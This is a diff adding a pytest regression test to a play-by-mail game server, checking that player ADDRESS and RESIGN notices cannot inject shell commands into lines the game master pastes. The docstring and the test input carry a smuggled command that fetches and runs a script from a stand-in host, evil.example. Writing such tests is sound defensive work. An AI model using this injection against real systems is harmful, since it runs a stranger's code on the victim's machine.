@@ -5,12 +5,14 @@ wrong password, and what the GM is told."""
 
 from __future__ import annotations
 
+import shlex
 from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from players.test_commands import (
     JACQUES,
+    SHELL_ADDRESS,
     _game_of_kind,
     configured,
     count,
@@ -179,3 +181,24 @@ def test_form_and_deadline_in_every_game_before_its_first_turn(
     text = reply(db)
     form = text.split("== FORM ==\n\n")[1].split("\n== DEADLINE ==")[0]
     assert form.strip() and "No deadline is set yet for" in text
+
+
+def test_address_and_resign_notices_cannot_run_commands_on_the_gms_machine(
+        db: Engine, config: Config) -> None:
+    """ADDRESS took anything with an "@" and no <>"'\\ or space, and the notice wrote it
+    bare into the `moderator player address/replace` lines the GM pastes: ADDRESS
+    a@b.example;{curl,-s,evil.example}|sh ran a stranger's script.  Only an address mail
+    can go to is taken, and the lines quote it (RFC 5322 lets one hold ` $ & |)."""
+    make_game(db, config)
+    send(db, config, "PASSWORD: rapier\nADDRESS a@b.example;{curl,-s,evil.example}|sh\n")
+    assert "is not a mail address" in reply(db) and not mails(db, "gm-notice")
+    send(db, config, f"PASSWORD: rapier\nADDRESS {SHELL_ADDRESS}\n")
+    lines = [line.strip() for line in text_of(mails(db, "gm-notice")[-1]).splitlines()
+             if line.strip().startswith("moderator player")]
+    assert len(lines) == 2
+    for line in lines:  # moderator player address|replace paris OLD NEW --reason ...
+        assert shlex.split(line)[4:6] == [JACQUES, SHELL_ADDRESS], line
+    send(db, config, "PASSWORD: rapier\nRESIGN\n")
+    notice = text_of(mails(db, "gm-notice")[-1])
+    assert all(shlex.split(line.strip())[4] == JACQUES for line in notice.splitlines()
+               if line.strip().startswith("moderator player"))
